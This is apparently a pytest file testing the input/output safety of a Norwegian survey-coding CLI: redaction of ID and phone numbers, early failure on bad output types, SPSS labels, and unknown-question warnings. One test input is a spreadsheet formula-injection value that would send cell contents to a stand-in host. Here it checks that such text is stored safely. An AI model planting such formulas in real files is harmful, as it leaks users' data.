"""``textmine code`` input/output safety: text read as written, personal data in other columns,
bad outputs refused before coding, Excel formulas, SPSS labels, unknown survey questions."""

import re

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
from typer.testing import CliRunner

from textmine.cli import app
from textmine.paths import MODELS_DIR


FNR = "01019010046"  # synthetic, valid mod-11
PHONE = "91234567"
FAST = MODELS_DIR / "fast"


def _code(*args):
    return CliRunner().invoke(app, ["code", *map(str, args)])


def _flat(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def test_numeric_text_column_is_redacted_and_integer_columns_keep_their_form(tmp_path, cb, fake_e5):
    src = tmp_path / "in.csv"
    src.write_text(f"id,kommentar,likert\n1,{FNR},4\n2,,\n3,123,5\n4,Køen er lang,2\n", encoding="utf-8")
    out = tmp_path / "o.csv"
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out)
    assert res.exit_code == 0, res.output
    text = out.read_text(encoding="utf-8")
    assert FNR not in text and "1019010046" not in text
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert df["kommentar"].tolist() == ["[FØDSELSNUMMER]", "", "123", "Køen er lang"]
    assert df["likert"].tolist() == ["4", "", "5", "2"]


def test_redact_col_masks_other_free_text_and_unnamed_columns_are_masked_too(tmp_path, cb, fake_e5):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ["a", "b"], "kommentar": ["Køen er lang", "Maten er dyr"],
                  "annen_kommentar": [f"Ring Kari Nordmann på {PHONE}", "ingen"]}).to_csv(src, index=False)
    out = tmp_path / "o.csv"
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out)
    assert res.exit_code == 0, res.output
    msg = _flat(res.output)  # not named, masked all the same, with a note (names and counts, never values)
    assert "annen_kommentar (1 cell)" in msg and "masked in place" in msg and PHONE not in msg
    assert "warning: column" not in msg
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert "[TELEFON]" in df.loc[0, "annen_kommentar"] and "Kari" not in df.loc[0, "annen_kommentar"]
    assert df.loc[1, "annen_kommentar"] == "ingen" and df["id"].tolist() == ["a", "b"]
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out, "--unredacted-col", "annen_kommentar")
    assert res.exit_code == 0, res.output  # asked for: copied as it is, no note
    assert PHONE in out.read_text(encoding="utf-8") and "masked in place" not in _flat(res.output)
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out, "--redact-col", "annen_kommentar")
    assert res.exit_code == 0, res.output
    assert "warning: column" not in res.output
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert PHONE not in out.read_text(encoding="utf-8") and "Kari" not in out.read_text(encoding="utf-8")
    assert "[TELEFON]" in df.loc[0, "annen_kommentar"] and df.loc[1, "annen_kommentar"] == "ingen"
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out, "--redact-col", "nope")
    assert res.exit_code == 2 and "nope" in res.output


@pytest.mark.parametrize("out_name, message", [("out.txt", "unsupported output type '.txt'")])
def test_bad_output_type_fails_before_coding(tmp_path, cb, out_name, message, monkeypatch):
    import textmine.classify.table as table

    def boom(*a, **k):  # coding must not start
        raise AssertionError("coded before checking the output")

    monkeypatch.setattr(table, "code_dataframe", boom)
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": [1], "kommentar": ["Køen er lang"]}).to_csv(src, index=False)
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", tmp_path / out_name)
    assert res.exit_code == 2 and message in res.output and "Traceback" not in res.output
    assert not (tmp_path / out_name).exists()


def test_sav_output_with_spaces_in_column_names(tmp_path, cb, fake_e5):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": [1, 2], "Hva synes du om NAV?": ["Køen er lang", "Maten er dyr"]}).to_csv(src, index=False)
    out = tmp_path / "o.sav"
    res = _code(src, "--codebook", cb, "--text-col", "Hva synes du om NAV?", "--out", out)
    assert res.exit_code == 0, res.output
    assert "Hva_synes_du_om_NAV" in _flat(res.output)
    df, meta = pyreadstat.read_sav(str(out))
    assert "Hva_synes_du_om_NAV" in df.columns and "theme_ko" in df.columns
    assert meta.column_names_to_labels["Hva_synes_du_om_NAV"] == "Hva synes du om NAV?"
    assert meta.column_names_to_labels["theme_ko"] == "Tema: Kø og ventetid"


def test_xlsx_output_keeps_comments_starting_with_equals_as_text(tmp_path, cb, fake_e5):
    texts = ["=) takk for hjelpen", '=HYPERLINK("http://x/?"&A1)', "+bra", "-dårlig", "@NAV"]
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": range(len(texts)), "kommentar": texts}).to_csv(src, index=False)
    out = tmp_path / "o.xlsx"
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out)
    assert res.exit_code == 0, res.output
    cells = list(openpyxl.load_workbook(out).active["B"])[1:]
    assert [c.value for c in cells] == texts
    assert all(c.data_type != "f" for c in cells)


def test_xlsx_output_refuses_overlong_comments_before_coding(tmp_path, cb, fake_e5):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": [1, 2], "kommentar": ["lang " * 7000, "kort"]}).to_csv(src, index=False)
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", tmp_path / "o.xlsx")
    assert res.exit_code == 2, res.output
    msg = _flat(res.output)
    assert "'kommentar': 1 cell" in msg and ".csv or .parquet" in msg
    assert not (tmp_path / "o.xlsx").exists()


def test_sav_in_sav_out_keeps_labels_and_missing_codes(tmp_path, cb, fake_e5):
    src = tmp_path / "in.sav"
    df = pd.DataFrame({"id": ["a", "b", "c"], "q_helhet": [1.0, 9.0, np.nan],
                       "kommentar": ["Køen er lang", "", "Maten er dyr"]})
    pyreadstat.write_sav(df, str(src), column_labels={"q_helhet": "Helhetsinntrykk", "kommentar": "Kommentar"},
                         variable_value_labels={"q_helhet": {1.0: "Svært dårlig", 9.0: "Vet ikke"}},
                         missing_ranges={"q_helhet": [9]})
    out = tmp_path / "o.sav"
    res = _code(src, "--codebook", cb, "--text-col", "kommentar", "--out", out)
    assert res.exit_code == 0, res.output
    back, meta = pyreadstat.read_sav(str(out), user_missing=True)
    assert meta.column_names_to_labels["q_helhet"] == "Helhetsinntrykk"
    assert meta.variable_value_labels["q_helhet"] == {1.0: "Svært dårlig", 9.0: "Vet ikke"}
    assert meta.missing_ranges["q_helhet"] == [{"lo": 9.0, "hi": 9.0}]
    assert back["q_helhet"].tolist()[:2] == [1.0, 9.0]


@pytest.mark.skipif(not (FAST / "manifest.json").exists(), reason="models/fast not built")
def test_unknown_question_is_warned_about(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": [1, 2], "sporsmal": ["fritekst_generell", "fritekst_ukjent"],
                  "kommentar": ["Lang ventetid på telefon", "Refusjon tar tid"]}).to_csv(src, index=False)
    common = [src, "--codebook", FAST / "codebook.yaml", "--model", FAST, "--text-col", "kommentar",
              "--out", tmp_path / "o.csv"]
    res = _code(*common, "--question", "fritekst_finnes_ikke")
    assert res.exit_code == 0, res.output
    msg = _flat(res.output)
    assert "fritekst_finnes_ikke" in msg and "fritekst_generell" in msg and "does not know" in msg
    res = _code(*common, "--question-col", "sporsmal")
    assert res.exit_code == 0, res.output
    msg = _flat(res.output)
    assert "does not know" in msg and "fritekst_ukjent" in msg
    res = _code(*common, "--question", "fritekst_generell")
    assert res.exit_code == 0 and "does not know" not in _flat(res.output)
